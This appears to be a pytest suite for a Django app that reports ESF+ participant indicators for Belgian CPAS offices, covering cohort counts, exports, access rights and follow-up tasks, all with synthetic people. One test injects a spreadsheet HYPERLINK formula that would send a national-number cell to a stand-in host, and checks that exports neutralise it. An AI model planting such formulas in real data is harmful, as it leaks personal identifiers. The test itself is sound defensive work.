"""ESF+ (Annex I common indicators): a hand-built cohort checked cell by cell, hours and exit
dates over a project's activities, what the file proposes, the daily follow-ups, and who sees
what (each CPAS its own participants; sensitive situations only with the right)."""

import datetime
from decimal import Decimal

import pytest
from django_celery_beat.models import PeriodicTask

from activites import fse, services
from activites.models import ParticipantFse, SuiviFse
from beneficiaires.models import Beneficiaire
from cpas_isp.models import Role
from tests.activites.factories import ActiviteFactory, SeanceFactory
from tests.beneficiaires.factories import BeneficiaireFactory, nouveau_niss
from trajets import queries as trajets_queries

D = datetime.date
PROJET = "FSE+ 2021-2027 / T-0001"
DU, AU = D(2025, 1, 1), D(2025, 12, 31)
ENTREE = D(2025, 1, 6)


def _personne(cpas, nom, genre, naissance, **kwargs):
    return BeneficiaireFactory(
        cpas=cpas,
        nom=nom,
        prenom=nom.lower(),
        genre=genre,
        date_naissance=naissance,
        niss=nouveau_niss(naissance or D(1960, 5, 5), "F" if genre == "F" else "M"),
        **kwargs,
    )


def _confirmer(b, par, **valeurs):
    return fse.enregistrer(b, PROJET, valeurs, par, sensibles=True)


@pytest.fixture
def coordinateur(cpas_a, make_user):
    return make_user(Role.COORDINATEUR, cpas_a)


@pytest.fixture
def coordinateur_b(cpas_b, make_user):
    return make_user(Role.COORDINATEUR, cpas_b)


@pytest.fixture
def cohorte(cpas_a, cpas_b, coordinateur, coordinateur_b):
    """Activities A, B (shared with CPAS B) and C of one project; people of CPAS A with every
    entry status, age band boundary, ISCED level, declared situation and result."""
    c = coordinateur
    a = ActiviteFactory(
        cpas=cpas_a, numero_projet_fse=PROJET, debut=D(2024, 11, 1), fin=D(2025, 6, 30), capacite=20
    )
    b = ActiviteFactory(
        cpas=cpas_a,
        numero_projet_fse=PROJET,
        debut=D(2024, 11, 1),
        fin=D(2025, 6, 30),
        cpas_participants=[cpas_b],
    )
    petite = ActiviteFactory(
        cpas=cpas_a, numero_projet_fse=PROJET, debut=D(2025, 1, 1), fin=D(2025, 6, 30), capacite=1
    )
    hors_projet = ActiviteFactory(cpas=cpas_a, debut=D(2025, 1, 1), fin=D(2025, 6, 30))
    s1, s2, s3 = (
        SeanceFactory(
            activite=a,
            date=D(2025, 1, j),
            heure_debut=datetime.time(9),
            heure_fin=datetime.time(12),
        )
        for j in (8, 15, 22)
    )
    s4 = SeanceFactory(
        activite=b, date=D(2025, 1, 9), heure_debut=datetime.time(13), heure_fin=datetime.time(15)
    )
    s5 = SeanceFactory(activite=hors_projet, date=D(2025, 1, 10))

    # Age at entry (6 January 2025) around each boundary birthday.
    p = {
        "anna": _personne(cpas_a, "Anna", "F", D(2007, 1, 7), niveau_etudes="ceb"),  # 17
        "bert": _personne(cpas_a, "Bert", "M", D(2007, 1, 6), niveau_etudes="cess"),  # 18
        "chloe": _personne(cpas_a, "Chloe", "F", D(1995, 1, 7), niveau_etudes="master"),  # 29
        "dirk": _personne(cpas_a, "Dirk", "M", D(1995, 1, 6)),  # 30
        "eva": _personne(cpas_a, "Eva", "F", D(1970, 1, 7)),  # 54
        "frank": _personne(cpas_a, "Frank", "M", D(1970, 1, 6)),  # 55
        "gina": _personne(cpas_a, "Gina", "X", None),  # 64 from the NISS (born 5 May 1960)
        "hugo": _personne(cpas_a, "Hugo", "M", D(1990, 3, 3)),  # no entry data confirmed
        "ines": _personne(cpas_a, "Ines", "F", D(1990, 3, 3)),  # withdrew before attending
        "jan": _personne(cpas_a, "Jan", "M", D(1990, 3, 3)),  # waiting list
        "lea": _personne(cpas_a, "Lea", "F", D(1990, 3, 3)),  # entered before the period
        "karl": _personne(cpas_b, "Karl", "M", D(1990, 3, 3)),  # the other CPAS's
    }
    i = {}
    for nom in ("anna", "bert", "chloe", "dirk", "eva", "frank", "gina", "ines"):
        i[nom] = services.inscrire(a, p[nom], c, date=ENTREE)
    i["anna_b"] = services.inscrire(b, p["anna"], c, date=D(2025, 1, 9))
    i["karl"] = services.inscrire(b, p["karl"], coordinateur_b, date=ENTREE)
    i["lea"] = services.inscrire(b, p["lea"], c, date=D(2024, 12, 1))
    i["hugo"] = services.inscrire(petite, p["hugo"], c, date=ENTREE)
    i["jan"] = services.inscrire(petite, p["jan"], c, date=ENTREE)
    i["anna_hors"] = services.inscrire(hors_projet, p["anna"], c, date=ENTREE)

    services.enregistrer_presences(
        s1,
        {
            i["anna"]: ("present", None),
            i["bert"]: ("present", None),
            i["ines"]: ("absent", None),
        },
        c,
    )
    services.enregistrer_presences(
        s2, {i["anna"]: ("present", None), i["bert"]: ("retard", Decimal("2.5"))}, c
    )
    services.enregistrer_presences(s3, {i["anna"]: ("present", None)}, c)
    services.enregistrer_presences(
        s4, {i["anna_b"]: ("present", None), i["karl"]: ("present", None)}, c
    )
    services.enregistrer_presences(s5, {i["anna_hors"]: ("present", None)}, c)  # not ESF+

    services.retirer(i["ines"], "personne", date=D(2025, 1, 20))
    services.terminer(i["anna"], "certificat", date=D(2025, 3, 31))
    services.terminer(i["anna_b"], "acheve", date=D(2025, 3, 14))
    services.retirer(i["bert"], "emploi", date=D(2025, 2, 10))
    services.terminer(i["dirk"], "abandon", date=D(2025, 5, 1))
    services.terminer(i["frank"], "acheve", date=D(2025, 6, 30))

    _confirmer(
        p["anna"],
        c,
        statut_emploi="chomeur",
        niveau_isced="0-2",
        handicap="oui",
        pays_tiers="refus",
        origine_etrangere="non",
        sortie_notee_le=D(2025, 4, 15),
        sortie_formation=True,
        sortie_qualification=True,
        six_mois_note_le=D(2025, 10, 1),
        six_mois_emploi=True,
        six_mois_situation_amelioree=True,
    )
    _confirmer(
        p["bert"],
        c,
        statut_emploi="chomeur_ld",
        niveau_isced="3-4",
        sans_abri="oui",
        sortie_notee_le=D(2025, 2, 20),
        sortie_recherche_emploi=True,
    )
    _confirmer(
        p["chloe"],
        c,
        statut_emploi="inactif",
        niveau_isced="5-8",
        pays_tiers="oui",
        origine_etrangere="oui",
    )
    _confirmer(
        p["dirk"],
        c,
        statut_emploi="emploi",
        niveau_isced="0-2",
        minorite="refus",
        sortie_notee_le=D(2025, 5, 20),
        sortie_emploi=True,
        six_mois_note_le=D(2025, 11, 3),
        six_mois_situation_amelioree=True,
    )
    _confirmer(p["eva"], c, statut_emploi="chomeur", niveau_isced="3-4", zone_rurale="oui")
    _confirmer(p["frank"], c, statut_emploi="inactif", niveau_isced="5-8")
    # Gina's file lost its birth date: the NISS gives it.
    Beneficiaire.objects.filter(pk=p["gina"].pk).update(date_naissance=None)
    p["gina"].refresh_from_db()
    _confirmer(p["gina"], c, statut_emploi="inactif", niveau_isced="0-2")
    _confirmer(p["lea"], c, statut_emploi="chomeur", niveau_isced="0-2")
    fse.enregistrer(
        p["karl"],
        PROJET,
        {"statut_emploi": "emploi", "niveau_isced": "5-8", "handicap": "oui"},
        coordinateur_b,
        sensibles=True,
    )
    return {"p": p, "i": i, "a": a, "b": b}


def _cellules(lignes):
    return {
        r.indicateur.code: (r.par_genre["F"], r.par_genre["M"], r.par_genre["X"], r.total)
        for r in fse.tableau(lignes)
    }


def test_annex_i_table_of_the_cohort_cell_by_cell(cohorte, coordinateur):
    lignes = fse.lignes(fse.perimetre(coordinateur), PROJET, DU, AU)
    t = _cellules(lignes)
    # (women, men, other/unknown, total)
    assert t == {
        "total": (3, 3, 1, 7),
        "chomeurs": (2, 1, 0, 3),
        "chomeurs_ld": (0, 1, 0, 1),
        "inactifs": (1, 1, 1, 3),
        "emploi": (0, 1, 0, 1),
        "moins_18": (1, 0, 0, 1),
        "18_29": (1, 1, 0, 2),
        "55_plus": (0, 1, 1, 2),
        "isced_0_2": (1, 1, 1, 3),
        "isced_3_4": (1, 1, 0, 2),
        "isced_5_8": (1, 1, 0, 2),
        "handicap": (1, 0, 0, 1),
        "pays_tiers": (1, 0, 0, 1),
        "origine_etrangere": (1, 0, 0, 1),
        "minorite": (0, 0, 0, 0),
        "sans_abri": (0, 1, 0, 1),
        "zone_rurale": (1, 0, 0, 1),
        "sortie_recherche": (0, 1, 0, 1),
        "sortie_formation": (1, 0, 0, 1),
        "sortie_qualification": (1, 0, 0, 1),
        "sortie_emploi": (0, 1, 0, 1),
        "six_mois_emploi": (1, 0, 0, 1),
        "six_mois_amelioree": (1, 1, 0, 2),
        # Refusals are counted as such, never as "no"
        "handicap_refus": (0, 0, 0, 0),
        "pays_tiers_refus": (1, 0, 0, 1),
        "origine_etrangere_refus": (0, 0, 0, 0),
        "minorite_refus": (0, 1, 0, 1),
        "sans_abri_refus": (0, 0, 0, 0),
        "zone_rurale_refus": (0, 0, 0, 0),
        "sans_entree": (0, 1, 0, 1),  # Hugo; Ines (never came) and Jan (waiting) are not in
        "sortis": (1, 3, 0, 4),  # Anna, Bert, Dirk, Frank
        "sortie_non_notee": (0, 1, 0, 1),  # Frank
    }


def test_age_bands_at_the_boundary_birthdays_and_from_the_niss(cohorte, cpas_a):
    bandes = {d.beneficiaire.nom: d.tranche_age for d in ParticipantFse.objects.filter(cpas=cpas_a)}
    assert bandes == {
        "Anna": "-18",
        "Bert": "18-29",
        "Chloe": "18-29",
        "Dirk": "30-54",
        "Eva": "30-54",
        "Frank": "55+",
        "Gina": "55+",
        "Lea": "30-54",
    }


def test_hours_entry_and_exit_over_the_projects_activities(cohorte, coordinateur):
    lignes = {lg.nom: lg for lg in fse.lignes(fse.perimetre(coordinateur), PROJET)}
    # Anna: 3 × 3 h in A and 2 h in B (her hour in an activity outside the project is not counted)
    assert lignes["Anna"].heures == Decimal("11.00")
    assert lignes["Anna"].entree == ENTREE
    assert lignes["Anna"].sortie == D(2025, 3, 31)  # the later of her two ends
    assert lignes["Bert"].heures == Decimal("5.50")
    assert lignes["Bert"].sortie == D(2025, 2, 10)
    assert lignes["Chloe"].sortie is None  # still enrolled
    assert lignes["Lea"].entree == D(2024, 12, 1)
    assert set(lignes) == {"Anna", "Bert", "Chloe", "Dirk", "Eva", "Frank", "Gina", "Hugo", "Lea"}


def test_each_cpas_reads_only_its_own_participants_of_a_shared_project(
    cohorte, coordinateur, coordinateur_b
):
    noms_a = {lg.nom for lg in fse.lignes(fse.perimetre(coordinateur), PROJET)}
    noms_b = {lg.nom for lg in fse.lignes(fse.perimetre(coordinateur_b), PROJET)}
    assert "Karl" not in noms_a
    assert noms_b == {"Karl"}


def test_export_of_a_shared_project_holds_only_the_cpas_participants(
    cohorte, coordinateur, coordinateur_b, client_for
):
    p = cohorte["p"]
    params = {"projet": PROJET, "du": "2025-01-01", "au": "2025-12-31"}
    url = "/activites/fse/export/participants.csv"
    texte_a = client_for(coordinateur).get(url, params).content.decode("utf-8-sig")
    texte_b = client_for(coordinateur_b).get(url, params).content.decode("utf-8-sig")
    assert p["anna"].niss in texte_a and p["karl"].niss not in texte_a
    assert p["karl"].niss in texte_b and p["anna"].niss not in texte_b
    entete, *rangees = texte_a.strip().splitlines()
    assert entete.split(";")[:9] == [
        "projet",
        "niss",
        "nom",
        "prenom",
        "genre",
        "date_naissance",
        "date_entree",
        "date_sortie",
        "heures",
    ]
    anna = next(r.split(";") for r in rangees if p["anna"].niss in r)
    colonnes = dict(zip(entete.split(";"), anna, strict=True))
    assert colonnes["heures"] == "11,00"
    assert colonnes["statut_emploi"] == "chomeur"
    assert colonnes["handicap"] == "oui" and colonnes["pays_tiers"] == "refus"
    assert colonnes["sortie_qualification"] == "1" and colonnes["sortie_emploi"] == "0"
    assert len(rangees) == 8  # Lea entered before the period


def test_export_cells_are_neutralised(cohorte, coordinateur, client_for):
    Beneficiaire.objects.filter(pk=cohorte["p"]["anna"].pk).update(
        nom='=HYPERLINK("http://x.test?"&B2,"clic")'
    )
    params = {"projet": PROJET}
    c = client_for(coordinateur)
    texte = c.get("/activites/fse/export/participants.csv", params).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in texte
    reponse = c.get("/activites/fse/export/participants.xlsx", params)
    import io

    from openpyxl import load_workbook

    contenu = b"".join(reponse.streaming_content) if reponse.streaming else reponse.content
    ws = load_workbook(io.BytesIO(contenu)).active
    cellules = [cell for row in ws.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert cellules and all(cell.data_type == "s" for cell in cellules)


def test_table_page_and_export_show_the_counts(cohorte, coordinateur, client_for):
    c = client_for(coordinateur)
    page = c.get("/activites/fse/", {"projet": PROJET, "du": "2025-01-01", "au": "2025-12-31"})
    assert page.status_code == 200
    html = page.content.decode()
    assert 'id="fse-total"' in html and "indicateur=handicap" in html
    csv = c.get(
        "/activites/fse/export/indicateurs.csv", {"projet": PROJET, "du": "2025-01-01"}
    ).content.decode("utf-8-sig")
    assert "Participants;3;3;1;7" in csv
    # Opened from the menu, without a choice: the (only) project, its whole period.
    assert 'id="fse-total"' in c.get("/activites/fse/").content.decode()


def test_the_people_behind_a_figure_are_listed_and_logged(cohorte, coordinateur, client_for):
    from cpas_isp.models import JournalAcces

    r = client_for(coordinateur).get(
        "/activites/fse/personnes/",
        {"projet": PROJET, "du": "2025-01-01", "indicateur": "chomeurs", "genre": "F"},
    )
    html = r.content.decode()
    assert "ANNA" in html and "EVA" in html and "BERT" not in html
    journal = JournalAcces.objects.filter(user=coordinateur).latest("pk")
    assert set(journal.personnes) == {cohorte["p"]["anna"].pk, cohorte["p"]["eva"].pk}


def test_a_figure_link_with_an_unknown_indicator_is_a_400(coordinateur, client_for):
    r = client_for(coordinateur).get("/activites/fse/personnes/", {"indicateur": "zorglub"})
    assert r.status_code == 400


def test_directors_see_figures_but_no_names_nor_sensitive_lists(
    cohorte, cpas_a, make_user, client_for
):
    directeur = client_for(make_user(Role.DIRECTEUR, cpas_a))
    page = directeur.get("/activites/fse/", {"projet": PROJET, "du": "2025-01-01"})
    assert page.status_code == 200
    assert 'id="fse-total"' in page.content.decode()
    assert "/activites/fse/personnes/" not in page.content.decode()
    assert directeur.get("/activites/fse/personnes/", {"indicateur": "handicap"}).status_code == 403
    assert (
        directeur.get("/activites/fse/export/participants.csv", {"projet": PROJET}).status_code
        == 404
    )


def test_sensitive_situations_hidden_without_the_right(
    cohorte, coordinateur, client_for, monkeypatch
):
    anna = cohorte["i"]["anna"]
    url = f"/activites/inscription/{anna.pk}/fse/"
    c = client_for(coordinateur)
    assert 'name="handicap"' in c.get(url).content.decode()

    monkeypatch.setattr("activites.views.fse.peut_voir_freins_sensibles", lambda u, b: False)
    monkeypatch.setattr("activites.views.fse._sensibles", lambda u: False)
    html = c.get(url).content.decode()
    assert 'name="handicap"' not in html and "fse-sensibles" not in html
    c.post(
        url,
        {"statut_emploi": "inactif", "niveau_isced": "0-2", "handicap": "non"},
    )
    d = ParticipantFse.objects.get(beneficiaire=anna.beneficiaire)
    assert d.statut_emploi == "inactif" and d.handicap == "oui"  # not written without the right
    assert c.get("/activites/fse/personnes/", {"indicateur": "handicap"}).status_code == 404
    texte = c.get("/activites/fse/export/participants.csv", {"projet": PROJET}).content.decode(
        "utf-8-sig"
    )
    assert "handicap" not in texte.splitlines()[0]


def test_an_agent_out_of_the_persons_caseload_gets_404(cohorte, cpas_a, make_user, client_for):
    agent = make_user(Role.AGENT, cpas_a)
    r = client_for(agent).get(f"/activites/inscription/{cohorte['i']['anna'].pk}/fse/")
    assert r.status_code == 404


def test_form_proposes_from_the_file_and_refuses_a_result_without_its_date(
    cpas_a, coordinateur, client_for
):
    activite = ActiviteFactory(cpas=cpas_a, numero_projet_fse=PROJET)
    b = _personne(cpas_a, "Zoe", "F", D(1990, 1, 1), niveau_etudes="cess", nationalite="Belge")
    i = services.inscrire(activite, b, coordinateur)
    url = f"/activites/inscription/{i.pk}/fse/"
    c = client_for(coordinateur)
    html = c.get(url).content.decode()
    assert 'value="3-4" selected' in html
    assert 'value="non" selected' in html  # a Belgian: not a third-country national

    r = c.post(url, {"statut_emploi": "chomeur", "niveau_isced": "3-4", "sortie_emploi": "on"})
    assert r.status_code == 200
    assert "Indiquez la date du résultat à la sortie." in r.content.decode()
    assert not ParticipantFse.objects.filter(beneficiaire=b).exists()

    r = c.post(url, {"statut_emploi": "chomeur", "niveau_isced": "3-4", "pays_tiers": "refus"})
    assert r.status_code == 302
    d = ParticipantFse.objects.get(beneficiaire=b)
    assert (d.statut_emploi, d.niveau_isced, d.pays_tiers, d.tranche_age) == (
        "chomeur",
        "3-4",
        "refus",
        "30-54",
    )


def test_an_activity_without_project_has_no_esf_form(cpas_a, coordinateur, client_for):
    i = services.inscrire(
        ActiviteFactory(cpas=cpas_a), _personne(cpas_a, "Yves", "M", None), coordinateur
    )
    assert client_for(coordinateur).get(f"/activites/inscription/{i.pk}/fse/").status_code == 404


def test_daily_task_creates_the_follow_ups_once(cohorte, coordinateur):
    p = cohorte["p"]
    cree = fse.creer_suivis(D(2025, 7, 1))
    # Bert: six months (exit recorded); Frank: both; Anna and Dirk: everything recorded.
    suivis = {
        (s.beneficiaire.nom, s.type_suivi): s.echeance
        for s in SuiviFse.objects.select_related("beneficiaire")
    }
    assert suivis == {
        ("Bert", "six_mois"): D(2025, 8, 10),
        ("Frank", "sortie"): D(2025, 7, 28),
        ("Frank", "six_mois"): D(2025, 12, 30),
    }
    assert cree == 3
    assert fse.creer_suivis(D(2025, 7, 1)) == 0
    assert fse.creer_suivis(D(2025, 7, 2)) == 0
    assert SuiviFse.objects.count() == 3

    # In the coordinator's "Mes échéances" (they enrolled the people: the agent recorded)
    Beneficiaire.objects.filter(pk=p["frank"].pk).update(referent=coordinateur)
    echeances = trajets_queries.mes_echeances(coordinateur, D(2025, 7, 20))
    assert [(e.genre, e.personne) for e in echeances if e.genre == "suivi_fse"] == [
        ("suivi_fse", f"FRANK {p['frank'].prenom}"),
    ]
    # Recording the result closes the follow-up.
    fse.enregistrer(
        p["frank"], PROJET, {"sortie_notee_le": D(2025, 7, 21)}, coordinateur, sensibles=True
    )
    echeances = trajets_queries.mes_echeances(coordinateur, D(2025, 7, 22))
    assert not [e for e in echeances if e.genre == "suivi_fse"]


def test_the_task_is_scheduled_daily(db):
    tache = PeriodicTask.objects.get(task="activites.tasks.suivis_fse")
    assert tache.enabled and tache.crontab.hour == "5"


def test_tranche_age_boundaries():
    assert fse.tranche_age(D(2000, 3, 1), D(2018, 2, 28)) == "-18"
    assert fse.tranche_age(D(2000, 3, 1), D(2018, 3, 1)) == "18-29"
    assert fse.tranche_age(D(2000, 3, 1), D(2030, 2, 28)) == "18-29"
    assert fse.tranche_age(D(2000, 3, 1), D(2030, 3, 1)) == "30-54"
    assert fse.tranche_age(D(2000, 3, 1), D(2055, 3, 1)) == "55+"
    assert fse.tranche_age(None, D(2055, 3, 1)) == ""


def test_dashboard_counts_what_is_missing_with_links(cohorte, coordinateur, client_for):
    html = client_for(coordinateur).get("/rapports/").content.decode()
    assert 'id="section-fse"' in html
    # Hugo's entry data; Frank's result at exit; six months for Bert and Frank
    assert 'href="/activites/fse/personnes/?manquant=entree">1</a>' in html
    assert 'href="/activites/fse/personnes/?manquant=sortie">1</a>' in html
    assert 'href="/activites/fse/personnes/?manquant=six_mois">2</a>' in html
    liste = client_for(coordinateur).get("/activites/fse/personnes/?manquant=six_mois")
    noms = liste.content.decode()
    assert "BERT" in noms and "FRANK" in noms and "ANNA" not in noms


@pytest.mark.parametrize(
    "date",
    [
        D(2025, 1, 5),
        D(2025, 2, 9),
        D(2025, 2, 10),
        D(2025, 3, 31),
        D(2025, 8, 9),
        D(2025, 8, 10),
        D(2025, 9, 30),
        D(2025, 12, 29),
        D(2025, 12, 30),
        D(2026, 6, 1),
    ],
)
def test_missing_counts_in_sql_are_those_of_the_rows(cohorte, cpas_a, date):
    """manquants (one query) counts what Ligne.manque says over lignes, around each exit
    and its six months (Bert out on 10 February, Anna on 31 March over two activities,
    Frank on 30 June)."""
    personnes = Beneficiaire.objects.filter(cpas=cpas_a)
    rows = fse.lignes(personnes)
    attendu = fse.Manquants(
        *(sum(r.manque(quoi, date) for r in rows) for quoi in ("entree", "sortie", "six_mois"))
    )
    assert fse.manquants(personnes, date) == attendu


def test_table_and_list_queries_do_not_grow_with_participants(
    cpas_a, coordinateur, client_for, requetes_de_la_page
):
    activite = ActiviteFactory(cpas=cpas_a, numero_projet_fse=PROJET, capacite=50)
    c = client_for(coordinateur)
    c.get("/")  # the session's first request stamps it

    def requetes():
        return [
            len(requetes_de_la_page(c, url, {"projet": PROJET}))
            for url in ("/activites/fse/", "/activites/fse/personnes/")
        ]

    for n in range(2):
        _confirmer_depuis(
            activite, _personne(cpas_a, f"Petit{n}", "F", D(1990, 1, 1)), coordinateur
        )
    avant = requetes()
    for n in range(12):
        _confirmer_depuis(
            activite, _personne(cpas_a, f"Grand{n}", "M", D(1980, 1, 1)), coordinateur
        )
    assert requetes() == avant


def _confirmer_depuis(activite, b, par):
    services.inscrire(activite, b, par, date=ENTREE)
    fse.enregistrer(
        b, PROJET, {"statut_emploi": "inactif", "niveau_isced": "0-2"}, par, sensibles=True
    )
